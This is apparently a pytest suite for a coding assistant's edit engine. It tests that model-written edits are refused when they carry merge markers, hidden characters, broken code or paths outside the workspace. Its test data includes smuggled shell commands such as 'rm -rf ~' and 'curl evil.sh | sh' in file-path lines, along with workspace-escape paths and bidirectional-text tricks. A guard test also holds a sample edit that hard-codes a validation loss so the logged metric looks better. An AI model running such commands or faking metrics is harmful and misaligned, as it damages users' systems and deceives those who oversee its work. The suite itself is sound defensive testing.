"""The edit engine's contract: one verdict per answer; whitespace written exactly as REPLACE has it; what must
not land is refused with one reason; paths stay inside the workspace; cut-off answers are marked; every format
models use (SEARCH/REPLACE, unified diff, *** Begin Patch, whole file, tool calls) goes through the same checks."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from copilot.core.edits import (
    GuardCheck,
    Hunk,
    ModelAnswer,
    ToolCall,
    apply_decisions,
    confine,
    evaluate_answer,
    is_elision,
    parse_answer,
)
from copilot.core.errors import EditParseError, WorkspaceError

PATH = "train_gpt.py"
SCRIPT = """import math
import torch


def get_lr(it):
    if it < warmup:
        return lr * (it + 1) / warmup
    return lr


class MLP:
    def forward(self, x):
        x = self.c_fc(x)
        x = gelu(x)
        x = self.c_proj(x)
        return x


def main():
    model = GPT(config)
    print("done")
"""


def block(search: str, replace: str, path: str | None = PATH) -> str:
    head = f"{path}\n" if path is not None else ""
    return f"Rationale.\n\n{head}```python\n<<<<<<< SEARCH\n{search}=======\n{replace}>>>>>>> REPLACE\n```\n"


def verdict(text: str | ModelAnswer, files: dict[str, str] | None = None, **kwargs):
    return evaluate_answer(text, files if files is not None else {PATH: SCRIPT}, default_path=PATH, **kwargs)


def applied(text: str | ModelAnswer, files: dict[str, str] | None = None, **kwargs) -> str:
    v = verdict(text, files, **kwargs)
    assert v.ok, v.error
    return v.files[PATH]


def refused(text: str | ModelAnswer, files: dict[str, str] | None = None, **kwargs) -> str:
    v = verdict(text, files, **kwargs)
    assert not v.ok, "expected a refusal"
    assert v.files == (files if files is not None else {PATH: SCRIPT})  # nothing changed
    assert v.error and v.error.strip()
    return v.error


# ---------------------------------------------------------------------------------------------------------
# Whitespace: a tolerance widens where a block matches, never what it writes


def test_trailing_whitespace_replace_adds_is_kept_when_search_has_spaces_the_file_lacks() -> None:
    text = block("        x = gelu(x)   \n        x = self.c_proj(x)  \n",
                 "        x = gelu(x)\n        x = self.c_proj(x) * 2   \n        x = x   \n")
    result = applied(text)
    assert "        x = self.c_proj(x) * 2   \n        x = x   \n" in result
    assert "        x = gelu(x)\n" in result


def test_replace_that_only_changes_trailing_whitespace_is_a_change() -> None:
    result = applied(block("        x = gelu(x)\n        x = self.c_proj(x)\n",
                           "        x = gelu(x)\n        x = self.c_proj(x)  \n"))
    assert result == SCRIPT.replace("x = self.c_proj(x)\n", "x = self.c_proj(x)  \n")
    result = applied(block("        x = gelu(x)\n", "        x = gelu(x) \n"))
    assert result == SCRIPT.replace("x = gelu(x)\n", "x = gelu(x) \n")


def test_lines_replace_keeps_exactly_keep_the_files_own_whitespace() -> None:
    source = SCRIPT.replace("x = self.c_fc(x)\n", "x = self.c_fc(x)  \n").replace("\n", "\r\n")
    result = applied(block("        x = self.c_fc(x)\n        x = gelu(x)\n",
                           "        x = self.c_fc(x)\n        x = silu(x)\n"), {PATH: source})
    assert result == source.replace("x = gelu(x)\r\n", "x = silu(x)\r\n")


@pytest.mark.parametrize("shift", [-4, 4])
def test_indentation_drift_matches_and_reindents_exactly_by_the_shift(shift: int) -> None:
    def move(text: str) -> str:
        lines = text.splitlines(keepends=True)
        return "".join((l[4:] if shift < 0 else "    " + l) if l.strip() else l for l in lines)

    text = block(move("        x = gelu(x)\n        x = self.c_proj(x)\n"),
                 move("        x = gelu(x)\n        if self.scale:\n            x = x * 2\n        x = self.c_proj(x)\n"))
    assert applied(text) == SCRIPT.replace(
        "        x = gelu(x)\n", "        x = gelu(x)\n        if self.scale:\n            x = x * 2\n")


# ---------------------------------------------------------------------------------------------------------
# Elision: explicit forms only


@pytest.mark.parametrize("line", ["...", "    …", "# ...", "    # ... existing code ...", "// ... unchanged ...",
                                  "# (rest of the function unchanged)", "    # existing code", "# ... omitted ..."])
def test_explicit_elision_forms(line: str) -> None:
    assert is_elision(line)


@pytest.mark.parametrize("line", ["x = y.view(B, T, ...)  # (B, T, ...)", "    # shapes: (B, T, ...) -> (B, ...)",
                                  "    print('loading...')", "# TODO: try 1e-3 ... 3e-3", "y = x[..., 0]",
                                  "    # keep the existing code path for CPUs"])
def test_comments_and_code_with_dots_are_not_elision(line: str) -> None:
    assert not is_elision(line)


def test_replace_comment_with_dots_is_written_and_the_marker_never_is() -> None:
    search = "def get_lr(it):\n    # ... existing code ...\n    return lr\n"
    replace = "def get_lr(it):\n    # ... existing code ...\n    return lr * decay  # lr schedule (B, ...)\n"
    result = applied(block(search, replace))
    assert "return lr * decay  # lr schedule (B, ...)\n" in result
    assert "existing code" not in result
    assert "        return lr * (it + 1) / warmup\n" in result  # the elided lines stayed


def test_a_placeholder_that_would_land_in_the_file_is_refused() -> None:
    error = refused(block("    return lr\n", "    # ... rest of the function unchanged ...\n    return lr\n"))
    assert "stands for lines left out" in error or "placeholder" in error


# ---------------------------------------------------------------------------------------------------------
# What must not land


@pytest.mark.parametrize(
    ("replace", "why"),
    [
        ("    return lr\n=======\n    return 0\n", "merge-conflict marker"),
        ("<<<<<<< HEAD\n    return lr\n", "merge-conflict marker"),
        ("    return lr\n>>>>>>> branch\n", "merge-conflict marker"),
        ("    return lr\x00\n", "NUL byte"),
        ("    return lr  # \x1b[2K\x1b[1A hidden\n", "ANSI escape"),
        ("    return lr  # \u202e gnp.ylb \u202c\n", "bidirectional-text override"),
        ("    return l\u200br\n", "invisible character"),
        ("    return lr\u2066\n", "bidirectional-text override"),
        ("    return lr \x07\n", "control character"),
        ("    x = " + "1 + " * 400 + "1\n    return lr\n", "characters long"),
        ("    return (lr\n", "no longer compiles"),
        ("  return lr\n      x = 1\n", "no longer compiles"),
    ],
)
def test_hostile_or_broken_replace_is_refused_with_one_reason(replace: str, why: str) -> None:
    error = refused(block("    return lr\n", replace))
    assert why in error


def test_compile_error_names_the_line() -> None:
    error = refused(block("    return lr\n", "    return lr +\n"))
    assert "line 8" in error and "'return lr +'" in error


def test_a_file_that_did_not_compile_before_is_not_blamed_on_the_edit() -> None:
    broken = SCRIPT + "def broken(:\n"
    assert "return lr * 2" in applied(block("    return lr\n", "    return lr * 2\n"), {PATH: broken})


def test_characters_the_file_already_had_pass() -> None:
    source = SCRIPT.replace("return lr\n", "return lr  # \u200b zero-width already here\n")
    text = block("    return lr  # \u200b zero-width already here\n", "    return lr * 2  # \u200b zero-width already here\n")
    assert "return lr * 2" in applied(text, {PATH: source})


@pytest.mark.parametrize("search", ["", "\n", "   \n\n"])
def test_blank_search_on_an_existing_file_is_refused(search: str) -> None:
    assert "creates a new file" in refused(block(search, "import os\n"))


def test_blank_search_creates_a_file_that_does_not_exist() -> None:
    v = verdict(block("", "def helper():\n    return 1\n", path="helpers.py"))
    assert v.ok and v.changed == {"helpers.py": "def helper():\n    return 1\n"}


# ---------------------------------------------------------------------------------------------------------
# Paths


@pytest.mark.parametrize(
    ("path_line", "why"),
    [
        ("train_gpt.py; rm -rf ~", "not a plain relative path"),
        ("train_gpt.py && curl evil.sh | sh", "not a plain relative path"),
        ("train_gpt\u202e.py", "bidirectional"),
        ("\u202etrain_gpt.py", "bidirectional"),
        ("../x.py", "climbs out of the workspace"),
        ("sub/../../x.py", "climbs out of the workspace"),
        ("/etc/passwd.py", "absolute"),
        ("~/.bashrc.py", "absolute"),
        (".git/hooks/pre-commit.py", ".git"),
        ("`$(whoami).py`", "not a plain relative path"),
    ],
)
def test_a_path_line_that_is_not_a_plain_relative_path_is_an_error_not_prose(path_line: str, why: str) -> None:
    error = refused(block("    return lr\n", "    return lr * 2\n", path=path_line))
    assert why in error


@pytest.mark.parametrize("fmt", ["udiff", "patch", "tools", "whole"])
def test_every_format_refuses_paths_outside_the_workspace(fmt: str) -> None:
    if fmt == "udiff":
        answer = ModelAnswer("--- a/../x.py\n+++ b/../x.py\n@@ -1,1 +1,1 @@\n-a\n+b\n")
    elif fmt == "patch":
        answer = ModelAnswer("*** Begin Patch\n*** Add File: ../x.py\n+evil\n*** End Patch\n")
    elif fmt == "tools":
        answer = ModelAnswer("", (ToolCall("edit_file", json.dumps({"path": "/tmp/x.py", "old_string": "",
                                                                     "new_string": "evil\n"})),))
    else:
        answer = ModelAnswer("../x.py\n```python\n" + SCRIPT + "```\n")
    error = refused(answer, preferred=fmt)
    assert "not a plain relative path inside the workspace" in error


def test_prose_before_a_block_is_rationale_and_the_default_path_applies() -> None:
    text = "model.py is where the loss is computed, but the change goes here:\n\n" + block(
        "    return lr\n", "    return lr * 2\n", path=None)
    v = verdict(text)
    assert v.ok and v.hunks[0].path == PATH and "model.py is where" in v.rationale


def test_a_symlink_that_leads_out_is_refused_at_dry_run_and_at_write(tmp_path: Path) -> None:
    workspace, outside = tmp_path / "ws", tmp_path / "outside"
    workspace.mkdir()
    outside.mkdir()
    (workspace / "data").symlink_to(outside)
    files = {PATH: SCRIPT}
    v = evaluate_answer(block("", "evil = 1\n", path="data/evil.py"), files, default_path=PATH, root=workspace)
    assert not v.ok and "outside the workspace" in (v.error or "")
    with pytest.raises(WorkspaceError, match="outside the workspace"):
        confine(workspace, "data/evil.py")
    assert confine(workspace, "sub/ok.py") == Path(os.path.realpath(workspace)) / "sub" / "ok.py"
    assert not list(outside.iterdir())


def test_the_rationale_shows_hidden_characters_instead_of_obeying_them() -> None:
    v = verdict("Faster \u202eyrtcelE\u202c schedule.\n\n" + block("    return lr\n", "    return lr * 2\n"))
    assert v.ok and "<U+202E>" in v.rationale and "\u202e" not in v.rationale


# ---------------------------------------------------------------------------------------------------------
# Cut off by the token limit


def test_a_cut_off_answer_keeps_its_complete_blocks_and_is_marked_truncated() -> None:
    complete = block("    return lr\n", "    return lr * 2\n")
    cut = complete + f"{PATH}\n```python\n<<<<<<< SEARCH\n        x = gelu(x)\n=======\n        x = si"
    v = verdict(ModelAnswer(cut, finish_reason="length"))
    assert v.ok and v.truncated and v.dropped == 1 and len(v.hunks) == 1
    assert not v.auto_applicable
    v = verdict(ModelAnswer(complete, finish_reason="length"))  # complete blocks, but the model was cut off
    assert v.ok and v.truncated and not v.auto_applicable
    assert verdict(ModelAnswer(complete, finish_reason="stop")).auto_applicable


def test_a_cut_off_answer_without_length_finish_is_a_parse_error() -> None:
    cut = f"{PATH}\n```python\n<<<<<<< SEARCH\n        x = gelu(x)\n======="
    assert "cut off" in refused(cut)


def test_a_cut_off_whole_file_is_never_applied() -> None:
    whole = f"{PATH}\n```python\n" + SCRIPT[:120]
    v = verdict(ModelAnswer(whole, finish_reason="length"), preferred="whole")
    assert not v.ok and v.truncated and "cut off by the token limit" in (v.error or "")


# ---------------------------------------------------------------------------------------------------------
# Formats


def test_whole_file_answer_becomes_reviewable_hunks() -> None:
    new = SCRIPT.replace("x = gelu(x)", "x = silu(x)").replace('print("done")', 'print("finished")')
    v = verdict(f"Swap the activation.\n\n{PATH}\n```python\n{new}```\n", preferred="whole")
    assert v.ok and v.format == "whole" and v.files[PATH] == new
    assert len(v.hunks) == 2 and all(h.search for h in v.hunks)
    assert v.rationale == "Swap the activation."


def test_whole_file_is_recognised_in_auto_mode_but_a_snippet_is_not() -> None:
    new = SCRIPT.replace("return lr\n", "return lr * 0.5\n")
    assert applied(f"{PATH}\n```python\n{new}```\n") == new
    snippet = "Try this:\n\n```python\nx = silu(x)\n```\n"
    assert "holds no" in refused(snippet)
    assert "snippet, not the whole file" in refused(snippet, preferred="whole")


def test_codex_patch_update_add_and_anchor() -> None:
    patch = """I will patch it.

*** Begin Patch
*** Update File: train_gpt.py
@@ def forward(self, x):
         x = self.c_fc(x)
-        x = gelu(x)
+        x = silu(x)
@@ def main():
-    print("done")
+    print("finished")
*** Add File: notes/README.md
+# notes
+hello
*** End Patch
"""
    v = verdict(patch)
    assert v.ok and v.format == "patch"
    assert v.files[PATH] == SCRIPT.replace("x = gelu(x)", "x = silu(x)").replace('"done"', '"finished"')
    assert v.files["notes/README.md"] == "# notes\nhello\n"


def test_codex_patch_ties_go_to_the_first_place_after_the_previous_chunk() -> None:
    source = "def a():\n    return x\n\n\ndef b():\n    return x\n"
    patch = ("*** Begin Patch\n*** Update File: m.py\n@@ def a():\n-    return x\n+    return 1\n"
             "@@\n-    return x\n+    return 2\n*** End Patch\n")
    v = evaluate_answer(patch, {"m.py": source}, default_path="m.py")
    assert v.ok and v.files["m.py"] == "def a():\n    return 1\n\n\ndef b():\n    return 2\n"


@pytest.mark.parametrize(("section", "why"), [("*** Delete File: train_gpt.py\n", "deleting files"),
                                                ("*** Update File: train_gpt.py\n*** Move to: x.py\n", "moving files")])
def test_codex_patch_refuses_deletes_and_moves(section: str, why: str) -> None:
    assert why in refused(f"*** Begin Patch\n{section}*** End Patch\n")


def test_unified_diff_header_settles_a_tie_only_when_the_lines_there_match() -> None:
    source = "def a():\n    return x\n\n\ndef b():\n    return x\n"
    diff = "--- a/m.py\n+++ b/m.py\n@@ -6,1 +6,1 @@\n-    return x\n+    return 2\n"
    v = evaluate_answer(diff, {"m.py": source}, default_path="m.py")
    assert v.ok and v.files["m.py"].endswith("def b():\n    return 2\n")
    wrong = diff.replace("+6,1", "+4,1")  # a miscounted header points at a line that is not SEARCH
    v = evaluate_answer(wrong, {"m.py": source}, default_path="m.py")
    assert not v.ok and "matches 2 places" in (v.error or "")


def test_tool_calls_edit_file_with_a_substring_and_apply_patch() -> None:
    calls = (
        ToolCall("edit_file", json.dumps({"path": PATH, "old_string": "gelu(x)", "new_string": "silu(x)"})),
        ToolCall("apply_patch", json.dumps({"patch": "*** Begin Patch\n*** Update File: train_gpt.py\n@@\n"
                                                      "-    print(\"done\")\n+    print(\"ok\")\n*** End Patch"})),
    )
    v = verdict(ModelAnswer("Two edits.", calls, "tool_calls"), preferred="tools")
    assert v.ok and v.format == "tools" and v.rationale == "Two edits."
    assert v.files[PATH] == SCRIPT.replace("gelu(x)", "silu(x)").replace('"done"', '"ok"')


def test_tool_call_with_broken_json_arguments_is_refused() -> None:
    calls = (ToolCall("edit_file", '{"path": "train_gpt.py", "old_string": "x'),)
    assert "not valid JSON" in refused(ModelAnswer("", calls))
    assert "unknown tool" in refused(ModelAnswer("", (ToolCall("run_shell", '{"cmd": "ls"}'),)))


# ---------------------------------------------------------------------------------------------------------
# Decisions and the guard go through the same verdict


def test_apply_decisions_checks_what_the_human_edited_too() -> None:
    hunk = Hunk(0, PATH, "    return lr\n", "    return lr * 2\n")
    assert apply_decisions({PATH: SCRIPT}, [hunk]).ok
    edited = Hunk(0, PATH, "    return lr\n", "    return (lr\n")
    v = apply_decisions({PATH: SCRIPT}, [edited])
    assert not v.ok and "no longer compiles" in (v.error or "")


def test_the_guard_runs_on_the_result_and_a_crash_fails_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    base = SCRIPT + 'print(f"step:1/1 val_loss:{val_loss:.4f} train_time:1ms step_avg:1.00ms")\n'
    hack = block('print(f"step:1/1 val_loss:{val_loss:.4f} train_time:1ms step_avg:1.00ms")\n',
                 'print(f"step:1/1 val_loss:{3.27:.4f} train_time:1ms step_avg:1.00ms")\n')
    v = evaluate_answer(hack, {PATH: base}, default_path=PATH, guard=GuardCheck(base, PATH, "nanogpt"))
    assert v.ok and v.blocking and not v.auto_applicable

    from copilot.core.edits import guard

    def explode(*args: object, **kwargs: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(guard, "check_integrity", explode)
    v = evaluate_answer(block("    return lr\n", "    return lr * 2\n"), {PATH: SCRIPT}, default_path=PATH,
                        guard=GuardCheck(SCRIPT, PATH, "nanogpt"))
    assert v.ok and v.blocking and "guard failed" in v.guard.summary()


def test_parse_answer_rejects_an_unknown_format_name() -> None:
    with pytest.raises(EditParseError, match="unknown edit format"):
        parse_answer("x", PATH, preferred="yaml")


# ---------------------------------------------------------------------------------------------------------
# Property: for generated files and edits, under every perturbation kind, the result is the intended file or a
# refusal, never a third thing.

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from copilot.core.edits import blocks_from_texts  # noqa: E402

_STATEMENTS = ["x = 1", "x = 2", "y = x + 1", "return x", "pass", "# note", "", "z = f(x, y)", "if x:",
               "for i in range(3):", "total += i", "def f():", "print('done')", "x = 1  # same as above"]
_LINE = st.tuples(st.sampled_from([0, 4, 8]), st.sampled_from(_STATEMENTS)).map(
    lambda p: (" " * p[0] + p[1]) if p[1] else "")
_KINDS = ["exact", "indent_plus", "indent_minus", "trailing_search", "crlf", "udiff", "patch", "whole", "tools",
          "no_path", "elided"]


def _perturbed(kind: str, old: str, new: str, rng_lines: list[int]) -> ModelAnswer:
    import difflib

    if kind == "whole":
        return ModelAnswer(f"{PATH}\n````python\n{new}````\n")
    if kind == "udiff":
        diff = difflib.unified_diff(old.splitlines(), new.splitlines(), f"a/{PATH}", f"b/{PATH}", n=1, lineterm="")
        return ModelAnswer("\n".join(diff) + "\n")
    parsed = parse_answer(blocks_from_texts(old, new, PATH, context_lines=2 if kind == "elided" else 1), PATH)
    hunks = parsed.hunks
    if kind == "tools":
        calls = tuple(ToolCall("edit_file", json.dumps({"path": PATH, "old_string": h.search,
                                                         "new_string": h.replace})) for h in hunks)
        return ModelAnswer("", calls, "tool_calls")
    if kind == "patch":
        out = ["*** Begin Patch", f"*** Update File: {PATH}"]
        for h in hunks:
            out.append("@@")
            s, r = h.search.splitlines(), h.replace.splitlines()
            for tag, i1, i2, j1, j2 in difflib.SequenceMatcher(None, s, r, autojunk=False).get_opcodes():
                if tag == "equal":
                    out += [" " + x for x in s[i1:i2]]
                else:
                    out += ["-" + x for x in s[i1:i2]] + ["+" + x for x in r[j1:j2]]
        return ModelAnswer("\n".join(out + ["*** End Patch", ""]))
    text_blocks = []
    for n, h in enumerate(hunks):
        s, r = h.search.splitlines(), h.replace.splitlines()
        if kind == "indent_plus":
            s, r = ["    " + x if x.strip() else x for x in s], ["    " + x if x.strip() else x for x in r]
        elif kind == "indent_minus" and all(x.startswith("    ") for x in s + r if x.strip()):
            s, r = [x[4:] if x.strip() else x for x in s], [x[4:] if x.strip() else x for x in r]
        elif kind == "trailing_search":
            s = [x + " " if x.strip() and (k + n) % 2 == 0 and x + " " not in r else x for k, x in enumerate(s)]
        elif kind == "elided" and len(s) > 4 and s[1:3] == r[1:3]:
            s = [s[0], "# ... existing code ...", *s[3:]]
            r = [r[0], "# ... existing code ...", *r[3:]]
        path = "" if kind == "no_path" else f"{PATH}\n"
        text_blocks.append(f"{path}```\n<<<<<<< SEARCH\n" + "".join(x + "\n" for x in s) + "=======\n"
                           + "".join(x + "\n" for x in r) + ">>>>>>> REPLACE\n```\n")
    text = "Change.\n\n" + "\n".join(text_blocks)
    return ModelAnswer(text.replace("\n", "\r\n") if kind == "crlf" else text)


@settings(max_examples=250, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(
    lines=st.lists(_LINE, min_size=3, max_size=30),
    start=st.integers(0, 29),
    length=st.integers(0, 4),
    new_lines=st.lists(_LINE, min_size=0, max_size=4),
    kind=st.sampled_from(_KINDS),
)
def test_property_intended_file_or_refusal_never_a_third_thing(lines: list[str], start: int, length: int,
                                                                 new_lines: list[str], kind: str) -> None:
    start = min(start, len(lines))
    old = "".join(line + "\n" for line in lines)
    new = "".join(line + "\n" for line in lines[:start] + new_lines + lines[start + length:])
    if new == old or not new.strip():
        return
    answer = _perturbed(kind, old, new, [])
    v = evaluate_answer(answer, {PATH: old}, default_path=PATH, preferred="whole" if kind == "whole" else "auto")
    if v.ok:
        assert v.files[PATH].replace("\r\n", "\n") == new, (kind, v.matches)
    else:
        assert v.error and v.files == {PATH: old}
